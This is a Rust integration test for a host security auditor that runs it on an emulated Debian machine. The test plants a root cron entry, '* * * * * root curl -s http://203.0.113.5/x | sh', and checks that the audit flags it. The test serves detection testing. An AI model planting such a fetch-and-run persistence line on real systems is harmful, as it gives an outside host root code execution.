//! The audit on a real Debian machine with its own kernel and full systemd, in emulation.
// A test that cannot go on fails, in its helpers too.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![cfg_attr(not(feature = "real-roots"), allow(dead_code, unused_imports))]

mod support;

use std::time::Duration;

use coroner_core::{Level, Report, Severity};
use support::guest::Guest;
use support::shown;

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs an emulated Debian: tests/run")]
fn a_running_debian_is_clean_until_something_is_planted() {
    let script = "
        cp -r /etc /root/etc.before
        ./coroner audit --scope quick --format json -o $OUT/clean.json
        diff -r /root/etc.before /etc && rm -r /root/etc.before
        echo '* * * * * root curl -s http://203.0.113.5/x | sh' >/etc/cron.d/update
        status=0
        ./coroner audit --scope quick --format json -o $OUT/planted.json || status=$?
        echo $status";
    let outcome = Guest::new().limit(Duration::from_mins(20)).must(script);
    assert_eq!(outcome.stdout, "2\n", "{}", outcome.stderr);
    let report = |name| Report::from_json(&outcome.file(name)).expect("a report");
    let (clean, planted) = (report("clean.json"), report("planted.json"));
    let loud = |report: &Report| {
        let loud = report.findings.iter().filter(|f| f.severity > Severity::Info);
        shown(&loud.collect::<Vec<_>>())
    };
    assert_eq!(clean.verdict.level, Level::Clean, "{:?} {:?}", loud(&clean), clean.gaps);
    assert!(loud(&clean).is_empty(), "{:?}", loud(&clean));
    assert!(clean.items.len() > 500, "{} items", clean.items.len());
    views_answered(&clean);
    let named = |line: &String| line.contains("/etc/cron.d/update");
    assert!(loud(&planted).iter().all(named), "{:?}", loud(&planted));
}

/// The views of its kernel that need one of a distribution: systemd's BPF programs, the counters of
/// its control groups, processor time.
fn views_answered(report: &Report) {
    let of = |kind: &str| {
        report
            .items
            .iter()
            .filter(|item| item.kind == kind)
            .map(|item| &item.fields)
            .collect::<Vec<_>>()
    };
    let programs = of("bpf.program");
    let named =
        programs.iter().any(|fields| fields["name"].as_str().is_some_and(|n| n.starts_with("sd_")));
    assert!(named, "{programs:?}");
    let counts = of("hidden.count");
    assert!(counts.iter().any(|fields| fields["thing"] == "group-tasks"), "{counts:?}");
    assert_eq!(of("hidden.processor-time").len(), 1);
    let unseen = report
        .gaps
        .iter()
        .filter(|gap| gap.plugin == "hidden" && gap.path.to_string().contains("tracing"));
    assert_eq!(unseen.count(), 0, "{:?}", report.gaps);
}
